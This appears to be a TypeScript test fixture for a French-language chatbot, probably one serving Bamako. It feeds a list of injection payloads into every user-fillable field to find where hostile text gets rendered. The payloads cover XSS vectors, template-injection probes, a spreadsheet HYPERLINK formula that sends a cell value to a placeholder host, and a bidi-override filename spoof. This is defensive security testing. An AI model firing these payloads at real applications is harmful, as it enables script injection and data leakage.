import type { House } from '../../../src/app/compose.ts';
import { says } from '../../demo/real-person.ts';

/** Stands in everything a hostile citizen writes, so that a test sees where it is shown. */
export const MARK = 'zzXSSzz';

/** The families of text that is meant to become something else than text (T13). */
export const PAYLOADS: readonly string[] = [
  `<script>document.title='${MARK}'</script>`,
  `"><img src=x onerror=alert('${MARK}')>`,
  `' onfocus=alert(1) autofocus='${MARK}`,
  `</textarea></title><svg onload=alert('${MARK}')>`,
  `<a href="javascript:alert(1)">${MARK}</a>`,
  `*_~\`[${MARK}](javascript:alert(1))`,
  `{{7*7}}\${7*7}<%= 7 %>#{7}${MARK}`,
  `=HYPERLINK("http://x.invalid?"&A1,"${MARK}")`,
  `\u202Egnp.exe\u2066${MARK}\uFEFF\u200B`,
  `<iframe srcdoc="<script>parent.x=1</script>">${MARK}`,
];

/** A name for the sheet of a volunteer holds 40 characters. */
const NAMES: readonly string[] = [
  `<b onmouseover=alert(1)>${MARK}`,
  `"><svg/onload=alert(1)>${MARK}`,
  `=1+1${MARK}`,
];

/** People who write these into every field a citizen can fill; one person a handful of payloads. */
export async function writeHostileThings(house: House, people: number): Promise<void> {
  await Promise.all(
    Array.from({ length: people }, async (_, person) => {
      const mine = PAYLOADS.filter((_payload, index) => index % people === person);
      await talk(house, `hostile-${String(person)}`, [
        // French, without listening, agreed.
        ...['bonjour', 'francais', '2', '1'],
        // The survey: its open question takes 300 characters.
        ...['sondage', '2', '24', mine.join(' ').slice(0, 300), 'Bamako', 'oui'],
        // The sheet of a volunteer, then the first activity there is.
        ...[
          'volontaire',
          '3',
          '1',
          NAMES[person % NAMES.length] ?? MARK,
          '1',
          'Bamako',
          '1',
          '1',
          '2',
          '1',
          '1',
        ],
        // What somebody has to say about the bot, and to a person.
        ...['avis', '1', ...mine],
        ...['agent', ...mine, 'menu', ...mine],
      ]);
    }),
  );
}

async function talk(house: House, user: string, texts: readonly string[]): Promise<void> {
  for (const [order, text] of texts.entries()) await says(house, user, text, order);
}
